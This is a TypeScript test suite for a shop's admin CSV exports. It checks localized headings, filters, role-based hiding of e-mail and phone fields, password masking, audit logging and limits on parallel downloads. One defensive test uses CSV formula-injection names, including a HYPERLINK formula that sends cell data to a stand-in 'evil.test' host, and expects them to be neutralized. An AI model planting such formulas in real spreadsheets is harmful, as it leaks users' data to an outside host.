import { once } from 'node:events'
import { get, type IncomingMessage } from 'node:http'
import { describe, expect, test } from 'vitest'
import { auditOf } from '#tests/support/audit.ts'
import { newBuyer, newProduct } from '#tests/support/buying.ts'
import { downloadCsv } from '#tests/support/csv.ts'
import { testShop } from '#tests/support/shop.ts'

const shop = await testShop({ paymob: true })
const { pool } = shop.database
const admin = await shop.signIn('admin')
const worker = await shop.signIn('worker')
const asAdmin = shop.caller(admin.token)

const couponBody = (code: string) => ({ code, discount: 5, expiresAt: '2030-01-01', usageLimit: 3 })
const newCoupon = (code: string) => asAdmin('POST /api/coupons', { body: couponBody(code) })

describe('the file', () => {
  test('is UTF-8 with a byte-order mark, with headings in the language of the request', async () => {
    await newCoupon('PLAIN-1')
    const arabic = await downloadCsv(shop, '/api/coupons/export', { ...admin, language: 'ar' })
    expect(arabic.status).toBe(200)
    expect(arabic.headers.get('content-type')).toBe('text/csv; charset=utf-8')
    expect(arabic.headers.get('content-disposition')).toMatch(/^attachment; filename="coupons-[\d-]+\.csv"$/)
    expect(arabic.text.startsWith('\uFEFF')).toBe(true)
    expect(arabic.titles.slice(0, 3)).toEqual(['الكود', 'النوع', 'النوع (الرمز)'])
    const english = await downloadCsv(shop, '/api/coupons/export', admin)
    expect(english.titles.slice(0, 3)).toEqual(['Code', 'Type', 'Type (code)'])
  })

  test('has times with the offset of Riyadh, plain numbers, and names beside codes', async () => {
    const { rows } = await downloadCsv(shop, '/api/coupons/export?search=plain-1', admin)
    expect(rows).toMatchObject([
      {
        Code: 'PLAIN-1',
        Type: 'Percentage',
        'Type (code)': 'percentage',
        Discount: '5',
        Status: 'Active',
        'Status (code)': 'active',
        Used: '0',
        'Usage limit': '3',
        Expires: '2030-01-01T23:59:59+03:00',
        Created: expect.stringMatching(/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\+03:00$/),
      },
    ])
  })

  test.each([
    ['=HYPERLINK("http://evil.test?x="&A1)', `'=HYPERLINK("http://evil.test?x="&A1)`],
    ['@SUM(A1:A9)', `'@SUM(A1:A9)`],
    ['-2+3', `'-2+3`],
    ['＝1+1', `'＝1+1`],
    ['Nour, "the" first', 'Nour, "the" first'],
    ['plain name', 'plain name'],
  ])('a name like %s cannot run as a formula', async (name, exported) => {
    const { userId } = await shop.signIn('user')
    await pool.query('update users set full_name = $1, phone = $2 where id = $3', [
      name,
      '+966500000001',
      userId,
    ])
    const { rows } = await downloadCsv(shop, '/api/users/export', admin)
    const row = rows.find(({ ID }) => ID === userId)
    expect(row?.['Full name']).toBe(exported)
    expect(row?.Phone, 'a phone number is no formula').toBe('+966500000001')
  })

  test('contains the rows of the list with the same filter, in its order, all pages', async () => {
    for (const number of [1, 2, 3]) await newCoupon(`SAME-${number}`)
    const { data } = await asAdmin('GET /api/coupons', {
      query: { search: 'same', sort: 'code', order: 'desc' },
    })
    const { rows } = await downloadCsv(shop, '/api/coupons/export?search=same&sort=code&order=desc', admin)
    expect(rows.map(({ Code }) => Code)).toEqual(data.coupons.map(({ code }) => code))
    expect(rows).toHaveLength(3)
    const none = await downloadCsv(shop, '/api/coupons/export?search=nothing-like-it', admin)
    expect(none.rows).toEqual([])
    expect(none.titles).toContain('Code')
  })

  test('a filter that the list does not have is refused with JSON', async () => {
    const { status, text } = await downloadCsv(shop, '/api/coupons/export?page=2', admin)
    expect([status, JSON.parse(text).code]).toEqual([400, 'validation_failed'])
  })
})

describe('every list', () => {
  test('products are filtered by search, category and status', async () => {
    const shown = await newProduct(shop, undefined, { name: 'Exported film club' })
    const hidden = await newProduct(shop, undefined, { name: 'Exported film attic', is_hidden: true })
    const ids = async (query: string) =>
      (await downloadCsv(shop, `/api/subscriptions/export?${query}`, worker)).rows.map(({ ID }) => ID).sort()
    expect(await ids('search=exported+film')).toEqual([shown, hidden].sort())
    expect(await ids('search=exported+film&status=hidden')).toEqual([hidden])
    expect(await ids('search=zzqqxx')).toEqual([])
    expect(await ids('category=nowhere')).toEqual([])
  })

  test('categories are filtered by search and status', async () => {
    const { rows } = await downloadCsv(shop, '/api/categories/export?status=active&search=music', worker)
    expect(rows.map(({ ID }) => ID)).toEqual(['music'])
    const none = await downloadCsv(shop, '/api/categories/export?status=inactive', worker)
    expect(none.rows).toEqual([])
  })

  test('banners, collections, purchase fields, stock, cases and chats are exported like their lists', async () => {
    const product = await newProduct(shop, 2)
    const field = { subscription_id: product, field_name: 'player', field_name_ar: 'اللاعب' }
    const { data: saved } = await asAdmin('POST /api/subscriptions/custom-fields', { body: field })
    const exported = async (path: string) => (await downloadCsv(shop, path, admin)).rows
    const fields = await exported(`/api/subscriptions/custom-fields/export?subscription_id=${product}`)
    expect(fields).toMatchObject([{ ID: saved.id, Name: 'player', 'Type (code)': 'text', Required: 'false' }])
    const levels = await exported(`/api/stock-levels/export?subscriptionId=${product}`)
    expect(levels.find(row => row['Duration (days)'] === '30')).toMatchObject({ ID: product, Available: '2' })
    await asAdmin('POST /api/subscriptions/{id}/accounts', {
      params: { id: product },
      body: { accounts: ['batch@stock.test:pass'], duration: 30, batch: { supplier: 'Cards', cost: 3.5 } },
    })
    const batches = await exported(`/api/stock-batches/export?subscriptionId=${product}`)
    expect(batches).toMatchObject([{ Supplier: 'Cards', 'Cost per account (SAR)': '3.5', Available: '1' }])
    const { data: chat } = await shop.caller()('POST /api/chat/sessions', {
      body: {
        userName: 'Exported visitor',
        category: 'payment',
        message: 'Hello',
        email: 'visitor@mail.test',
      },
    })
    const chats = '/api/chat/agent/sessions/export?search=exported+visitor'
    expect(await exported(chats)).toMatchObject([
      { ID: chat.sessionId, Customer: 'Exported visitor', 'E-mail': 'visitor@mail.test' },
    ])
    expect((await downloadCsv(shop, chats, worker)).titles).not.toContain('E-mail')
    const banners = await downloadCsv(shop, '/api/banners/export', admin)
    expect(banners.titles).toEqual(expect.arrayContaining(['Name', 'Link', 'Start date', 'Active']))
    const collections = await downloadCsv(shop, '/api/collections/export', admin)
    expect(collections.titles).toEqual(expect.arrayContaining(['Name', 'Product', 'End date', 'Active']))
    const { rows: opened } = await pool.query(
      `insert into cases (kind, dedupe_key, product_id) values ('stock_exhausted', 'csv', $1) returning id`,
      [product],
    )
    const cases = await exported('/api/cases/export?kind=stock_exhausted')
    expect(cases.map(({ ID }) => ID)).toContain(opened[0].id)
    expect(await exported('/api/cases/export?kind=stock_exhausted&state=resolved')).toEqual([])
  })

  test('stock accounts have masked user names and no password', async () => {
    const product = await newProduct(shop, 2)
    const path = `/api/subscriptions/${product}/accounts/export`
    const { text, rows } = await downloadCsv(shop, path, admin)
    expect(rows, text).toHaveLength(2)
    expect(rows[0]).toMatchObject({ 'State (code)': 'available', 'Duration (days)': '30', Expires: '' })
    expect(rows[0]?.['User name (masked)']).toMatch(/^us•••@stock\.test$/)
    expect(text).not.toMatch(/secret-|user-\d/)
    const expiresAt = '2040-01-31T21:00:00.000Z'
    const { data } = await shop.caller(admin.token, 'en')('POST /api/subscriptions/{id}/accounts', {
      params: { id: product },
      body: { accounts: ['late@stock.test:x'], duration: 30, batch: { supplier: 'Acme', expiresAt } },
    })
    const ofBatch = await downloadCsv(shop, `${path}?batchId=${data.batchId}`, admin)
    expect(ofBatch.rows).toMatchObject([{ Expires: '2040-02-01T00:00:00+03:00', Supplier: 'Acme' }])
  })

  test('orders have the buyer’s name for a worker, and e-mail and phone number only for an admin', async () => {
    const names = { name: 'Named film club', name_ar: 'نادي الأفلام' }
    const buyer = await newBuyer(shop)
    const product = await newProduct(shop, undefined, names)
    await pool.query(`update users set full_name = 'Buyer One', phone = '+966511111111' where id = $1`, [
      buyer.userId,
    ])
    const order = await buyer.order(product)
    const [{ email }] = (await pool.query('select email from users where id = $1', [buyer.userId])).rows
    const path = `/api/orders/export?status=pending&search=${order.number}`
    const byAdmin = await downloadCsv(shop, path, admin)
    expect(byAdmin.rows).toEqual([
      expect.objectContaining({
        'Order number': String(order.number),
        'Total (SAR)': '50',
        Customer: 'Buyer One',
        'E-mail': email,
        Phone: '+966511111111',
        Status: 'Pending',
        'Status (code)': 'pending',
        Delivery: 'Not delivered',
        'Delivery (code)': 'none',
        Items: 'Named film club × 1',
      }),
    ])
    const arabic = await downloadCsv(shop, path, { ...admin, language: 'ar' })
    expect(arabic.rows).toMatchObject([{ الحالة: 'قيد الانتظار', 'الحالة (الرمز)': 'pending' }])
    expect(arabic.text).toContain('نادي الأفلام × 1')
    const byWorker = await downloadCsv(shop, path, worker)
    expect(byWorker.rows).toEqual([expect.objectContaining({ Customer: 'Buyer One' })])
    expect(byWorker.text).not.toContain(email)
    expect(byWorker.text).not.toContain('511111111')
    expect((await downloadCsv(shop, '/api/orders/export?status=cancelled', admin)).rows).toEqual([])
  })

  test('delivered subscriptions have no e-mail address for a worker', async () => {
    const product = await newProduct(shop)
    const buyer = await newBuyer(shop)
    const order = await buyer.order(product)
    await asAdmin('PUT /api/orders/{id}', { params: { id: order.id }, body: { status: 'completed' } })
    await asAdmin('PUT /api/orders/delivery', {
      body: { orderItemId: order.items[0]?.id ?? '', delivered: true, deliveryEmail: 'handed@over.test' },
    })
    const path = '/api/subscriptions/delivered/export?search=handed@over.test'
    const byAdmin = await downloadCsv(shop, path, admin)
    expect(byAdmin.rows, byAdmin.text).toMatchObject([
      { 'Order number': String(order.number), 'Delivery e-mail': 'handed@over.test' },
    ])
    const byWorker = await downloadCsv(shop, path, worker)
    expect(byWorker.rows).toMatchObject([{ 'Order number': String(order.number) }])
    expect(byWorker.text).not.toContain('over.test')
  })

  test('is recorded in the audit log, with filters and reason but without the search text', async () => {
    const reason = 'asked for by the tax adviser'
    await downloadCsv(
      shop,
      `/api/users/export?search=nour&role=user&reason=${encodeURIComponent(reason)}`,
      admin,
    )
    const entries = await auditOf(shop, 'users')
    expect(entries.at(-1)).toMatchObject({
      action: 'users.export',
      actor_id: admin.userId,
      reason,
      after: { role: 'user', isSearch: true },
    })
    expect(JSON.stringify(entries)).not.toContain('nour')
  })
})

describe('a download', () => {
  const running = async () => {
    const { rows } = await pool.query(
      `select count(*)::int as count from pg_stat_activity
       where datname = current_database() and query like '%batches%' and state <> 'idle' and pid <> pg_backend_pid()`,
    )
    return rows[0].count as number
  }

  test('of a person is the only one, a third one in parallel is refused, and aborting frees the connection', async () => {
    // Over 8 MB: the operating system buffers up to 4 MB that the client does not read.
    await pool.query(
      `insert into coupons (code, type, discount_percent, expires_at, usage_limit)
       select 'LONG-' || n || repeat('𝕏', 50), 'percentage', 5, '2030-01-01', 1 from generate_series(1, 30000) n`,
    )
    const open = async ({ token }: { token: string }) => {
      const headers = { authorization: `Bearer ${token}` }
      const request = get(`${shop.url}/api/coupons/export`, { headers, agent: false })
      const [response] = (await once(request, 'response')) as [IncomingMessage]
      return { status: response.statusCode, abort: () => response.destroy() }
    }
    // Neither client reads its body, so both keep a cursor open.
    const third = await shop.signIn('admin')
    const first = await open(admin)
    const entries = async () => (await auditOf(shop, 'coupons')).length
    const points = async () =>
      (await pool.query(`select points from rate_limits where key like 'export-list:%' order by key`)).rows
    const before = { entries: await entries(), points: await points() }
    const again = await downloadCsv(shop, '/api/coupons/export', admin)
    expect([again.status, JSON.parse(again.text).code]).toEqual([429, 'export_running'])
    expect({ entries: await entries(), points: await points() }, 'a refusal leaves no trace').toEqual(before)
    const second = await open(worker)
    expect([first.status, second.status]).toEqual([200, 200])
    const refused = await downloadCsv(shop, '/api/coupons/export', third)
    expect([refused.status, JSON.parse(refused.text).code]).toEqual([429, 'exports_busy'])
    first.abort()
    second.abort()
    await expect.poll(running, { timeout: 30_000 }).toBe(0)
    await expect
      .poll(async () => (await downloadCsv(shop, '/api/coupons/export?search=plain', admin)).status)
      .toBe(200)
  })
})
